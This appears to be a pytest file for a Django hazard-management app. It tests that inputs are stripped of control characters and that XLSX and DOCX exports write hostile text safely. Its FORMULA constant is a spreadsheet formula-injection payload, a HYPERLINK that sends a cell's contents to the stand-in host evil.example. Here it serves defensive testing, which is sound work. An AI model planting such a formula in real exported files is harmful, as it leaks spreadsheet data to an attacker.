"""Text at the boundary: cleaning of every input, and every export/document writes hostile text
safely (no 500, no live formula). The expected values are written out literally here."""

import io
import zipfile

import pytest
from django import forms
from openpyxl import load_workbook

from core import xlsx
from core.testing import client_as, exported
from core.text import clean_text

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'
HOSTILE = "消防通道\x0b被占用\x00\x1f" + "\x08"


def test_clean_text_removes_control_characters_and_normalises_spaces():
    assert clean_text("  a\x00b\x1fc\x7f  ") == "abc"
    assert clean_text("第一行\x0b第二行\r\n第三行\r第四行") == "第一行\n第二行\n第三行\n第四行"
    assert clean_text("a\u00a0b\u2003c\u200bd\ufeff") == "a b cd"
    assert clean_text("全角\u3000空格") == "全角\u3000空格"  # 全角空格 is ordinary Chinese text
    assert clean_text("行尾空格   \n\n\n\n下一段") == "行尾空格\n\n下一段"
    assert clean_text("单行\n文本\t 多个   空格", multiline=False) == "单行 文本 多个 空格"
    assert clean_text("e\u0301") == "\u00e9"  # NFC


def test_every_form_charfield_is_cleaned_but_passwords_are_not():
    class F(forms.Form):
        name = forms.CharField()
        note = forms.CharField(widget=forms.Textarea)
        email = forms.EmailField()
        secret = forms.CharField(widget=forms.PasswordInput, strip=False)

    f = F({"name": "鑫隆\x0b商贸\n有限公司", "note": "一\x0b二", "email": " a@b.cn\x00 ", "secret": " p\x0bw "})
    assert f.is_valid(), f.errors
    assert f.cleaned_data == {"name": "鑫隆 商贸 有限公司", "note": "一\n二", "email": "a@b.cn", "secret": " p\x0bw "}


def test_only_control_characters_is_blank():
    class F(forms.Form):
        name = forms.CharField()

    f = F({"name": "\x00\x0b "})
    assert not f.is_valid() and "name" in f.errors


def test_every_api_charfield_is_cleaned():
    from rest_framework import serializers

    class S(serializers.Serializer):
        description = serializers.CharField()
        password = serializers.CharField()

    s = S(data={"description": "隐患\x0b描述\x00", "password": "a\x0bb"})
    assert s.is_valid(), s.errors
    assert s.validated_data == {"description": "隐患\n描述", "password": "a\x0bb"}
    assert not S(data={"description": "\x01\x02", "password": "x"}).is_valid()


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def _cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def assert_safe_xlsx(data: bytes, *expected_texts):
    assert "<f>" not in _sheet_xml(data) and "<f " not in _sheet_xml(data), "a live formula was written"
    cells = list(_cells(data))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [c.value for c in cells if isinstance(c.value, str)]
    for text in expected_texts:
        assert text in values, f"{text!r} not written as text"
    formula_cells = [c for c in cells if c.value == FORMULA]
    assert formula_cells and all(c.quotePrefix for c in formula_cells)


def test_core_xlsx_writes_text_as_text():
    from openpyxl import Workbook

    wb = Workbook(write_only=True)
    ws = wb.create_sheet("s")
    ws.append(xlsx.row(ws, [FORMULA, "+1", "-1", "@SUM(A1)", 3, None, "a\x0bb"]))
    buf = io.BytesIO()
    wb.save(buf)
    wb2 = load_workbook(io.BytesIO(buf.getvalue()))
    row = [c for c in next(wb2.active.iter_rows())]
    assert [c.value for c in row] == [FORMULA, "+1", "-1", "@SUM(A1)", 3, None, "ab"]
    assert [c.data_type for c in row][:4] == ["s", "s", "s", "s"]
    assert all(c.quotePrefix for c in row[:4]) and not row[6].quotePrefix


def storable(text: str) -> str:
    """Text a legacy row can hold: PostgreSQL refuses NUL in text columns, SQLite keeps it."""
    from django.db import connection

    return text.replace("\x00", "") if connection.vendor == "postgresql" else text


@pytest.fixture
def hostile_hazard(world):
    from hazards.models import Hazard
    from hazards.tests.conftest import make_major

    h = make_major(world)
    # Legacy rows (written before the boundary cleaning) may still hold such text.
    Hazard.objects.filter(pk=h.pk).update(description=storable(FORMULA + HOSTILE), location=FORMULA)
    type(world.ent_commerce).objects.filter(pk=world.ent_commerce.pk).update(address=FORMULA + "\x0b")
    h.refresh_from_db()
    return h


def test_hazard_ledger_export_survives_control_characters_and_formulas(client, world, hostile_hazard):
    from jobs import runner

    client_as(client, world, "committee")
    r = client.get("/hazards/export.xlsx")  # the ledger export is a job: run it, then download its file
    assert r.status_code == 302
    job_id = int(r["Location"].rstrip("/").split("/")[-1])
    runner.run(job_id)
    r = client.get(f"/jobs/{job_id}/result/")
    assert r.status_code == 200
    assert_safe_xlsx(b"".join(r.streaming_content) if r.streaming else r.content, FORMULA + "消防通道被占用")


def test_enterprise_export_survives(client, world, hostile_hazard):
    client_as(client, world, "committee")
    _job, content = exported(client, "/enterprises/export.xlsx")
    assert_safe_xlsx(content, FORMULA)


def test_hazard_documents_survive(client, world, hostile_hazard):
    from documents.render import docx_text

    client_as(client, world, "committee")
    r = client.get(f"/documents/hazards/{hostile_hazard.pk}/report.docx")
    assert r.status_code == 200
    text = docx_text(r.content)
    assert FORMULA + "消防通道被占用" in text and "\x0b" not in text


def test_risk_register_and_card_survive(client, world):
    from documents.render import docx_text
    from risks import services
    from risks.models import RiskPoint

    p = services.create_risk_point(None, world.ent_commerce, code="P-1", name="仓库", category="火灾", location="二层",
                                   hazard_factors="可燃物")
    RiskPoint.objects.filter(pk=p.pk).update(name=FORMULA, hazard_factors=storable("可燃\x0b物\x00"), level="major")
    client_as(client, world, "committee")
    _job, content = exported(client, "/risks/register.xlsx")
    assert_safe_xlsx(content, "可燃物")
    r = client.get(f"/risks/points/{p.pk}/card.docx")
    assert r.status_code == 200
    assert FORMULA in docx_text(r.content) and "可燃物" in docx_text(r.content)


def test_dispatch_table_export_with_hostile_unit_name():
    from django.utils import timezone

    from campaigns.xlsx import export_bytes

    data = export_bytes(FORMULA + "\x0b", timezone.now(), {}, set())
    cells = list(_cells(data))
    assert not [c for c in cells if c.data_type == "f"]
    assert "单位：" + FORMULA in [c.value for c in cells]


def test_bulletin_and_enforcement_docs_go_through_render():
    from documents.render import docx_text, new_document, paragraph, table, to_bytes

    doc = new_document("标题\x0b", "副\x00标题")
    paragraph(doc, "正文\x1f" + FORMULA)
    table(doc, [["单元\x0b格", 1]])
    text = docx_text(to_bytes(doc))
    assert "标题" in text and "副标题" in text and "正文" + FORMULA in text and "单元格" in text


def test_the_fast_path_only_skips_text_that_the_full_cleaning_leaves_unchanged(monkeypatch):
    import random
    import unicodedata

    from core import text

    pool = list("ab 中文\u3000\u00a0\u200b\u2028\r\n\t\x0b\x85\ufeff\u2060\ufffe") + ["e\u0301", "\u00e9", "  "]
    rng = random.Random(5)
    samples = ["".join(rng.choice(pool) for _ in range(rng.randint(1, 6))) for _ in range(3000)]
    samples += ["整改完毕", "a b", "a  b", " a", "a ", "e\u0301"]
    fast = {(s, m): text._clean_already(s, m) for s in samples for m in (True, False)}
    monkeypatch.setattr(text, "_clean_already", lambda value, multiline: False)  # the full cleaning only
    for (s, multiline), skipped in fast.items():
        if skipped:
            assert text.clean_text(s, multiline=multiline) == s, repr(s)
    assert any(fast.values()) and not all(fast.values())
    assert unicodedata.is_normalized("NFC", text.clean_text("e\u0301"))
